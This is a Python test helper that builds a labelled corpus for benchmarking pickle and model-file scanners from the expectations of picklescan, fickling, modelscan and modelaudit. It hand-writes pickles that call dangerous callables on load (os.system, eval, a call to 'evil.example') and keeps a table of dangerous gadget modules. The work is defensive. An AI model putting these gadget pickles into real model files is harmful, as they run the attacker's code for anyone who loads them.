"""A labelled corpus built from the test expectations of picklescan, fickling, modelscan and modelaudit.

    python -m tests.scan.peer_corpora fetch     # pinned sdists from PyPI into tests/.peer-corpora (make testdata)
    python -m tests.scan.peer_corpora build     # write the corpus and print its labels

Nothing from the sdists is imported or run: modelaudit's sample files are copied
as they are; picklescan's test file, fickling's and modelscan's denylists are
read as text (``ast``/regular expressions) and each expected gadget becomes a
pickle written by hand here. Labels:

- ``malicious``: loading (or rendering) the file runs code its author chose;
- ``benign``: an ordinary file;
- ``inert``: a file with no clear expectation: a payload that does not run on
  load (pickle bytes or code stored as data), or a custom class that the loading
  script must supply (``__main__.X``); reported apart, counted in neither recall
  nor false positives.
"""

from __future__ import annotations

import argparse
import ast
import hashlib
import io
import json
import pickle
import re
import shutil
import struct
import subprocess
import sys
import tarfile
import zipfile
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
CACHE = ROOT / "tests" / ".peer-corpora"

#: name -> (version, sha256 of the sdist)
PINS: dict[str, tuple[str, str]] = {
    "picklescan": ("1.0.5", "1e220fc0e7eb2021eeb59ee71ce22d6a889ffb9f4d86d6f8272b8defe83ab9dd"),
    "fickling": ("0.1.12", "83f6ccc948e21edb9ebd92795069536b47f481ce6add62598eac608b31576821"),
    "modelscan": ("0.8.8", "34b134084370eb9832e0a7571297c3054ebfbff9f005992fe6f28ffc10135514"),
    "modelaudit": ("0.2.54", "87ffdef31b0a0f9f0bf65c1fbc920c3217300a8924a87d9b95715dd7ed70a5dc"),
}


@dataclass(frozen=True)
class Sample:
    path: Path
    label: str  # malicious | benign | inert
    source: str  # peer whose tests it comes from
    kind: str  # what it exercises


def sdist(name: str, cache: Path = CACHE) -> Path:
    version, _ = PINS[name]
    return cache / "sdists" / f"{name}-{version}.tar.gz"


def fetch(cache: Path = CACHE) -> list[str]:
    """Download the pinned sdists (pip download, no binaries) and check their hashes; returns problems."""
    (cache / "sdists").mkdir(parents=True, exist_ok=True)
    problems = []
    for name, (version, sha) in PINS.items():
        target = sdist(name, cache)
        if not target.exists():
            cmd = [sys.executable, "-m", "pip", "download", "--no-deps", "--no-binary", ":all:", "--quiet"]
            run = subprocess.run([*cmd, f"{name}=={version}", "-d", str(target.parent)], check=False, capture_output=True, text=True)
            if run.returncode != 0 or not target.exists():
                problems.append(f"{name}=={version}: download failed: {run.stderr.strip()[-300:]}")
                continue
        got = hashlib.sha256(target.read_bytes()).hexdigest()
        if got != sha:
            problems.append(f"{target.name}: sha256 {got} is not the pinned {sha}")
            target.unlink()
    return problems


def _member_text(archive: Path, suffix: str) -> str:
    with tarfile.open(archive) as tf:
        for m in tf.getmembers():
            if m.name.endswith(suffix) and m.isfile():
                f = tf.extractfile(m)
                assert f is not None
                return f.read().decode("utf-8")
    raise FileNotFoundError(f"{suffix} not in {archive.name}")


# -- handwritten pickles (never produced by unpickling or importing anything) ------------------------


def call_pickle(module: str, name: str, protocol: int, arg: str = "echo pwned") -> bytes:
    """A pickle that imports ``module.name`` and calls it with one string, at the given protocol."""
    a = arg.encode()
    if protocol == 0:
        return b"c" + module.encode() + b"\n" + name.encode() + b"\n(V" + a + b"\ntR."
    if protocol < 4:
        head = b"\x80" + bytes([protocol]) if protocol else b""
        return head + b"c" + module.encode() + b"\n" + name.encode() + b"\nX" + struct.pack("<I", len(a)) + a + b"\x85R."

    def s(x: bytes) -> bytes:
        return (b"\x8c" + bytes([len(x)]) + x) if len(x) < 256 else (b"X" + struct.pack("<I", len(x)) + x)

    return b"\x80" + bytes([protocol]) + s(module.encode()) + b"\x94" + s(name.encode()) + b"\x94\x93\x94" + s(a) + b"\x94\x85\x94R\x94."


def _zip(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=method) as zf:
        for n, d in members.items():
            zf.writestr(n, d)
    return buf.getvalue()


def _npy(payload: bytes, descr: str = "|O", shape: str = "(1,)") -> bytes:
    header = ("{'descr': '" + descr + "', 'fortran_order': False, 'shape': " + shape + ", }").encode()
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload


def _flag_zip(raw: bytes, bit: int) -> bytes:
    b = bytearray(raw)
    b[6] |= bit
    cd = b.rfind(b"PK\x01\x02")
    b[cd + 8] |= bit
    return bytes(b)


def _benign_pickle(protocol: int) -> bytes:
    return pickle.dumps({"a": 0, "b": [1, 2.5, "c"], "d": (None, True)}, protocol=protocol)


# -- the peers' expectations -----------------------------------------------------------------------

#: Representative callables for denylist entries that name a whole module ("*").
MODULE_GADGETS = {
    "os": "system", "nt": "system", "posix": "system", "subprocess": "Popen", "sys": "exit", "runpy": "_run_code",
    "socket": "create_connection", "pty": "spawn", "pickle": "loads", "_pickle": "loads", "bdb": "Bdb",
    "pdb": "run", "shutil": "rmtree", "asyncio": "run", "webbrowser": "open", "httplib": "HTTPSConnection",
    "requests.api": "get", "aiohttp.client": "ClientSession", "commands": "getoutput", "ctypes": "CDLL",
    "timeit": "timeit", "cProfile": "run", "profile": "run", "pydoc": "locate", "pip": "main",
    "venv": "create", "uuid": "_get_command_stdout", "ssl": "get_server_certificate", "urllib.request": "urlopen",
    "numpy.f2py": "compile", "numpy.testing._private.utils": "runstring", "test": "support", "_osx_support": "_read_output",
    "_aix_support": "_read_cmd_output", "_pyrepl": "pager", "distutils.file_util": "write_file", "aiohttp": "request",
    "multiprocessing": "Process", "_posixsubprocess": "fork_exec", "code": "interact", "codeop": "compile_command",
    "marshal": "loads", "importlib": "import_module", "_frozen_importlib": "_load", "_frozen_importlib_external": "SourceFileLoader",
    "_imp": "create_dynamic", "pkgutil": "resolve_name", "zipimport": "zipimporter", "gc": "get_referrers",
    "site": "addsitedir", "unittest": "main", "inspect": "getsource", "operator": "attrgetter", "_operator": "attrgetter",
    "functools": "partial", "trace": "Trace", "http": "client", "urllib": "request", "urllib2": "urlopen",
    "requests": "get", "smtplib": "SMTP", "imaplib": "IMAP4", "ftplib": "FTP", "poplib": "POP3", "telnetlib": "Telnet",
    "nntplib": "NNTP", "_ctypes": "dlopen", "dill": "loads", "cloudpickle": "loads", "joblib": "load",
    "tempfile": "mkstemp", "types": "FunctionType", "doctest": "debug_script", "__builtin__": "eval", "builtins": "eval",
    "__builtins__": "eval", "_io": "FileIO", "io": "open", "torch.hub": "load", "torch._dynamo": "optimize",
    "torch._inductor": "compile", "torch.jit": "load", "torch.compile": "compile", "numpy.distutils": "exec_command",
    "torch.serialization": "load", "signal": "pthread_kill", "threading": "Thread", "_thread": "start_new_thread",
    "platform": "popen", "ensurepip": "_run_pip", "shelve": "open", "xmlrpc": "client", "socketserver": "TCPServer",
    "mmap": "mmap", "sqlite3": "connect", "compileall": "compile_dir", "py_compile": "compile", "_interpreters": "create",
    "zipfile": "ZipFile", "tarfile": "open", "glob": "glob", "linecache": "getline", "lib2to3": "main", "idlelib": "run",
    "pathlib": "Path", "fileinput": "input", "wsgiref": "simple_server",
}  # fmt: skip


def picklescan_expectations(text: str) -> tuple[list[tuple[str, str]], list[str]]:
    """(dangerous globals picklescan's tests expect, benign data files they expect clean) from its test file."""
    dangerous = re.findall(r'Global\("([^"]+)",\s*(?:name=)?"([^"]+)",\s*(?:safety=)?SafetyLevel\.Dangerous\)', text)
    seen: dict[tuple[str, str], None] = {}
    for m, n in dangerous:
        # "unknown"/"42" are what picklescan shows for a computed STACK_GLOBAL; Counter is dangerous only in
        # its strict mode
        if m not in ("unknown", "42") and n != "unknown" and (m, n) != ("collections", "Counter"):
            seen[(m, n)] = None
    return list(seen), sorted(set(re.findall(r"(benign\w*\.pkl|int_arrays?\w*\.np[yz])", text)))


def denylist_pairs(module_level: dict[str, object]) -> list[tuple[str, str]]:
    out = []
    for module, names in module_level.items():
        if names == "*" or not names:
            gadget = MODULE_GADGETS.get(module)
            if gadget:
                out.append((module, gadget))
        elif isinstance(names, str):
            out.append((module, names))
        else:
            out.extend((module, n) for n in names)  # type: ignore[union-attr]
    return out


def modelscan_expectations(text: str) -> list[tuple[str, str]]:
    """modelscan's unsafe_globals (CRITICAL and HIGH) from settings.py."""
    tree = ast.parse(text)
    for node in ast.walk(tree):
        if isinstance(node, ast.Dict):
            for k, v in zip(node.keys, node.values, strict=False):
                if isinstance(k, ast.Constant) and k.value == "unsafe_globals":
                    table = ast.literal_eval(v)
                    merged: dict[str, object] = {}
                    for level in ("CRITICAL", "HIGH", "MEDIUM", "LOW"):
                        merged.update(table.get(level, {}))
                    return denylist_pairs(merged)
    return []


def fickling_expectations(fickle_text: str, analysis_text: str) -> list[tuple[str, str]]:
    """fickling's UNSAFE_IMPORTS modules (fickle.py) and UnsafeImportsML pairs (analysis.py)."""
    modules: list[str] = []
    for node in ast.walk(ast.parse(fickle_text)):
        if isinstance(node, ast.AnnAssign) and isinstance(node.target, ast.Name) and node.target.id == "UNSAFE_IMPORTS":
            call = node.value
            if isinstance(call, ast.Call) and call.args:
                modules = [c.value for c in getattr(call.args[0], "elts", []) if isinstance(c, ast.Constant)]
    pairs = denylist_pairs({m: "*" for m in modules})
    for node in ast.walk(ast.parse(analysis_text)):
        if isinstance(node, ast.ClassDef) and node.name == "UnsafeImportsML":
            for stmt in node.body:
                if isinstance(stmt, ast.Assign) and isinstance(stmt.targets[0], ast.Name):
                    value = ast.literal_eval(stmt.value)
                    if stmt.targets[0].id == "UNSAFE_MODULES":
                        pairs += denylist_pairs({m: "*" for m in value})
                    elif stmt.targets[0].id == "UNSAFE_IMPORTS":
                        pairs += [(m, n) for m, names in value.items() for n in names]
    return list(dict.fromkeys(pairs))


#: modelaudit's sample files: label and kind by path (its folder names and generators say what each holds).
def _modelaudit_label(rel: str) -> tuple[str, str] | None:
    name = rel.rsplit("/", 1)[-1]
    if rel.startswith("huggingface_model_cards") or rel.startswith("generators") or (rel.endswith(".json") and "jinja2" not in rel):
        return None
    if name in ("LICENSE", "features.csv") or name.endswith((".py", ".csv")):
        return None
    if "jinja2/" in rel:
        if "/malicious/" in rel or "/obfuscated/" in rel or "standalone/malicious" in rel:
            return "malicious", "chat template"
        if "/benign/" in rel or "benign" in name:
            return "benign", "chat template"
        return None  # edge cases and yaml files: no expectation to measure against
    if rel.startswith(("exploits/", "pickles/")) or name in ("malicious_system_call.pkl", "dill_func.pkl"):
        return "malicious", "pickle"
    if name.startswith(("nested_pickle_", "decode_exec")) or name in ("malicious_import.safetensors", "malicious_model_realistic.pkl"):
        return "inert", "payload stored as data"
    if name == "agpl_model.pkl":
        return "inert", "custom class from __main__"
    if "security_scenarios" in rel:
        return "malicious", "pickle"
    if name == "malicious_eval.pt":
        return "malicious", "torch zip"
    if name in ("custom_layer_attack.h5", "loss_injection.h5", "malicious_lambda.h5", "metric_injection.h5"):
        return "malicious", "keras"
    if "malicious_pyfunc" in rel:
        return "malicious", "savedmodel"
    if name == "path_traversal.zip":
        return "malicious", "zip"
    return "benign", name.rsplit(".", 1)[-1]


def build(out: Path, cache: Path = CACHE) -> list[Sample]:
    """Write the corpus under ``out``; raises FileNotFoundError when the sdists were not fetched."""
    for name in PINS:
        if not sdist(name, cache).exists():
            raise FileNotFoundError(f"{sdist(name, cache)} missing: run `python -m tests.scan.peer_corpora fetch`")
    if out.exists():
        shutil.rmtree(out)
    samples: list[Sample] = []

    def put(rel: str, data: bytes, label: str, source: str, kind: str) -> None:
        p = out / source / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(data)
        samples.append(Sample(p, label, source, kind))

    # modelaudit: its sample files, as shipped
    with tarfile.open(sdist("modelaudit", cache)) as tf:
        for m in tf.getmembers():
            if not m.isfile() or "/tests/assets/" not in m.name:
                continue
            rel = m.name.split("/tests/assets/", 1)[1]
            got = _modelaudit_label(rel)
            f = tf.extractfile(m)
            if got is None or f is None:
                continue
            put(rel, f.read(), got[0], "modelaudit", got[1])
    # picklescan: every dangerous global its tests expect, at protocols 0-4 in turn, plus its containers
    text = _member_text(sdist("picklescan", cache), "tests/test_scanner.py")
    gadgets, _ = picklescan_expectations(text)
    for i, (m, n) in enumerate(gadgets):
        put(f"{m}.{n}.pkl", call_pickle(m, n, i % 5), "malicious", "picklescan", "pickle")
    evil = call_pickle("builtins", "eval", 2, "print(456)")
    base = _zip({"data.pkl": evil})
    deflated = _zip({"archive/data.pkl": evil}, zipfile.ZIP_DEFLATED)
    cd = deflated.rfind(b"PK\x01\x02")
    for rel, data in {
        "malicious1.zip": base,
        "malicious1_wrong_ext.pkl": base,
        "malicious1_0x1.zip": _flag_zip(deflated, 0x1),
        "malicious1_0x20.zip": _flag_zip(deflated, 0x20),
        "malicious1_0x40.zip": _flag_zip(deflated, 0x40),
        "malicious1_central_directory.zip": deflated[:cd] + b"PK\x01\x02" + b"\xff" * 42,
        "object_arrays.npz": _zip({"a.npy": _npy(call_pickle("ssl", "get_server_certificate", 3, "evil.example"))}),
        "object_arrays_compressed.npz": _zip({"a.npy": _npy(evil)}, zipfile.ZIP_DEFLATED),
        "dns_exfiltration.npy": _npy(call_pickle("ssl", "get_server_certificate", 3, "evil.example")),
        "malicious1_v0.pkl": call_pickle("__builtin__", "eval", 0, "print(456)"),
        "malicious2_v4.pkl": call_pickle("posix", "system", 4, "ls -la"),
        "malicious13a.pkl": call_pickle("builtins", "eval", 0) + call_pickle("os", "system", 0),
    }.items():
        put(rel, data, "malicious", "picklescan", "container")
    for rel, data in {
        "benign0_v2.pkl": _benign_pickle(2),
        "benign0_v3.pkl": _benign_pickle(3),
        "benign0_v4.pkl": _benign_pickle(4),
        "benign0_v0.pkl": _benign_pickle(0),
        "int_array.npy": _npy(b"\0" * 24, "<i8", "(3,)"),
        "int_arrays.npz": _zip({"a.npy": _npy(b"\0" * 24, "<i8", "(3,)"), "b.npy": _npy(b"\0" * 8, "<f8", "(1,)")}),
        "int_arrays_compressed.npz": _zip({"a.npy": _npy(b"\0" * 24, "<i8", "(3,)")}, zipfile.ZIP_DEFLATED),
        "benign.zip": _zip({"data.pkl": _benign_pickle(2)}),
    }.items():
        put(rel, data, "benign", "picklescan", "pickle")
    # modelscan and fickling: every denylist entry becomes a gadget call
    ms = modelscan_expectations(_member_text(sdist("modelscan", cache), "modelscan/settings.py"))
    for i, (m, n) in enumerate(ms):
        put(f"{m}.{n}.pkl", call_pickle(m, n, (i + 2) % 5), "malicious", "modelscan", "pickle")
    fk = fickling_expectations(
        _member_text(sdist("fickling", cache), "fickling/fickle.py"), _member_text(sdist("fickling", cache), "fickling/analysis.py")
    )
    for i, (m, n) in enumerate(fk):
        put(f"{m}.{n}.pkl", call_pickle(m, n, (i + 4) % 5), "malicious", "fickling", "pickle")
    (out / "labels.json").write_text(
        json.dumps([{"path": str(s.path.relative_to(out)), "label": s.label, "source": s.source, "kind": s.kind} for s in samples], indent=1)
    )
    return samples


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(prog="python -m tests.scan.peer_corpora")
    ap.add_argument("command", choices=("fetch", "build"))
    ap.add_argument("--out", type=Path, default=CACHE / "corpus")
    args = ap.parse_args(argv)
    if args.command == "fetch":
        problems = fetch()
        for p in problems:
            print(p, file=sys.stderr)
        print("peer sdists:", ", ".join(f"{n}=={v}" for n, (v, _) in PINS.items()), "ok" if not problems else "INCOMPLETE")
        return 0  # offline is not an error: the tests that need the corpus skip
    samples = build(args.out)
    counts: dict[str, int] = {}
    for s in samples:
        counts[f"{s.source}/{s.label}"] = counts.get(f"{s.source}/{s.label}", 0) + 1
    print(json.dumps(counts, indent=1, sort_keys=True))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
